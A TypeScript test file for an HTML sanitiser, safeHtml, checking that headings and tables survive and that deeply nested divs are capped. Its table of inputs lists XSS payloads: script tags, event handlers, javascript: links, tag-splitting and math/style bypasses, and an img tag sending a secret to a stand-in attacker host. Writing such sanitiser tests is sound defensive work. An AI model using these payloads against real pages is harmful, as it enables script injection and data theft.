import assert from 'node:assert/strict'
import { test } from 'node:test'
import { safeHtml } from './safe-html.ts'

test('text, headings, lists and tables stay', () => {
  const html =
    '<h1>Crows</h1><p>They <strong>fly</strong> &amp; caw.<br>At night.</p><ol start="3"><li>One</li></ol><table><tbody><tr><td colspan="2">A</td></tr></tbody></table>'
  assert.equal(safeHtml(html), html)
})

for (const [hostile, harmless] of [
  ['<p onclick="x()" style="color:red" class="a">A</p>', '<p>A</p>'],
  ['<script>alert(1)</script>A<style>b{}</style>', 'A'],
  ['<scr<script>ipt>alert(1)</script>', /^[^<]*$/],
  ['<img src="https://evil.example/?q=secret" onerror="x()">A', 'A'],
  ['<a href="javascript:x()">A</a>', 'A'],
  ['<svg><p>A</p><script>x</script></svg>B', 'B'],
  ['<math><mtext></p><style><img src=x onerror=x()></style></math>B', /^[^<]*$/],
  ['<p>A<!-- hidden -->B</p>', '<p>AB</p>'],
  ['&lt;script&gt;x&lt;/script&gt;', '&lt;script&gt;x&lt;/script&gt;'],
  ['<iframe src="//evil.example"><p>A</p></iframe>B', 'B'],
  ['<p>A\u{e0041}\u200b\u202eB</p>', '<p>AB</p>'],
  ['<p>open', '<p>open</p>'],
  ['</p></div>A', /A$/],
  ['<td colspan="1&quot; onclick=&quot;x">A</td>', '<td>A</td>'],
  ['<title><p>A</p></title>B', 'B'],
  ['<textarea></textarea><p>A</p>', '<p>A</p>'],
] as const)
  test(`harmless: ${hostile.slice(0, 60)}`, () => {
    const safe = safeHtml(hostile)
    if (typeof harmless === 'string') assert.equal(safe, harmless)
    else assert.match(safe, harmless)
    assert.equal(safeHtml(safe), safe, 'the result is sanitised already')
  })

test('thousands of open elements are closed, and no deeper than browsers can show', () => {
  const safe = safeHtml('<div>'.repeat(20_000))
  assert.equal(safe.match(/<div>/g)?.length, 100)
  assert.equal(safe.match(/<\/div>/g)?.length, 100)
})
